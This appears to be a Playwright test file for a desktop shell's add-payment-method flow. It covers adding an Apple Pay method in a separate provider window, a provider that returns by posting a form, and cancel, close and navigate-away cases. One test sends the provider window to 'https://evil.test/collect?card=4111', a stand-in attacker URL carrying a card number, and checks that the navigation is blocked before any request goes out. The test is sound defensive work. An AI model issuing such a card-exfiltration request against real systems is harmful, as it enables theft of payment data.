import * as commonTexts from '#shared/texts/common'
import * as paymentMethodTexts from '#shared/texts/payments/paymentMethods'
import { expect, type Household, test, tick } from '../../support/browser/browser'
import { openShellAs, pageOrigin, type ShellSurroundings, type TestShell } from '../../support/shell/shellHarness'

/** Proceeds to the provider's page in main's payment window. */
async function proceed(surroundings: ShellSurroundings, household: Household) {
  const opened = await openShellAs(surroundings, household.person)
  const { page, payments } = opened
  await page.goto(`${pageOrigin}/managePayment`)
  await page.getByRole('button', { name: 'Add payment method' }).click()
  const dialog = page.getByRole('dialog', { name: 'Add payment method' })
  await tick(dialog.getByRole('radio', { name: /^Apple Pay/ }))
  const proceedButton = dialog.getByRole('button', { name: 'Proceed to Add Payment Method' })
  /** Opens the provider's page in another window. */
  const openWindow = async () => {
    const count = payments.length + 1
    await proceedButton.click()
    await expect.poll(() => payments.length).toBe(count)
    const provider = await payments.at(-1)?.page
    if (!provider) throw new Error('No payment window is open')
    await expect(provider.locator('form')).toBeVisible()
    return provider
  }
  return {
    ...opened,
    dialog,
    proceedButton,
    openWindow,
    provider: await openWindow(),
    isGone: () => payments.at(-1)?.isGone(),
  }
}

const listedMethod = (page: TestShell['page']) => page.getByRole('listitem').filter({ hasText: 'Apple Pay' })

test('a method is added in a window of the main process and is then in the list, and the shell’s page shows no page of the provider', async ({
  context,
  db,
  household,
}) => {
  const { page, dialog, provider, isGone } = await proceed({ context, db }, household)
  await expect(dialog.getByText(paymentMethodTexts.completeInWindow)).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  await provider.getByLabel(/Visa ending in 1111/).check()
  await provider.getByRole('button', { name: 'Confirm' }).click()
  await expect(dialog).toBeHidden()
  await expect(listedMethod(page)).toBeVisible()
  expect(isGone()).toBe(true)
})

test('the shell accepts a provider that returns by posting a form', async ({ context, db, household }) => {
  const { page, provider } = await proceed({ context, db }, household)
  // The sandbox returns its result in the URL. Here it is posted instead.
  await provider.route('**/pay/**', async (route) => {
    if (route.request().method() !== 'POST') return route.fallback()
    const { location = '' } = (await route.fetch({ maxRedirects: 0 })).headers()
    const { origin, pathname, hash } = new URL(location)
    const fields = [...new URLSearchParams(hash.slice(1))].map(
      ([name, value]) => `<input name="${name}" value="${value}">`,
    )
    const form = `<form method="post" action="${origin}${pathname}">${fields.join('')}</form>`
    return route.fulfill({ contentType: 'text/html', body: `${form}<script>document.forms[0].submit()</script>` })
  })
  await provider.getByLabel(/Visa ending in 1111/).check()
  await provider.getByRole('button', { name: 'Confirm' }).click()
  await expect(listedMethod(page)).toBeVisible()
})

test('nothing is saved if the window is canceled, closed, canceled in the dialog or navigated elsewhere, and the dialog says so', async ({
  context,
  db,
  household,
}) => {
  const { page, dialog, proceedButton, provider, openWindow, isGone } = await proceed({ context, db }, household)
  const nothingSaved = dialog.getByText(paymentMethodTexts.notSavedByProvider)
  await provider.getByRole('button', { name: 'Cancel' }).click()
  await expect(nothingSaved).toBeVisible()
  await expect(proceedButton).toBeEnabled()
  expect(isGone()).toBe(true)

  const closed = await openWindow()
  await expect(nothingSaved).toBeHidden()
  await closed.close()
  await expect(nothingSaved).toBeVisible()

  const cancelled = await openWindow()
  await dialog.getByRole('button', { name: commonTexts.cancel }).click()
  await expect.poll(isGone).toBe(true)
  await expect.poll(() => cancelled.isClosed()).toBe(true)

  const led = await openWindow()
  const reached: string[] = []
  led.on('response', (response) => reached.push(new URL(response.url()).origin))
  await led.evaluate(() => window.location.assign('https://evil.test/collect?card=4111')).catch(() => undefined)
  await expect(dialog.getByText(paymentMethodTexts.pageLeft)).toBeVisible()
  expect(isGone()).toBe(true)
  // It was blocked before any request.
  expect(reached).not.toContain('https://evil.test')
  await expect(page.getByText('No data found')).toBeAttached()
})
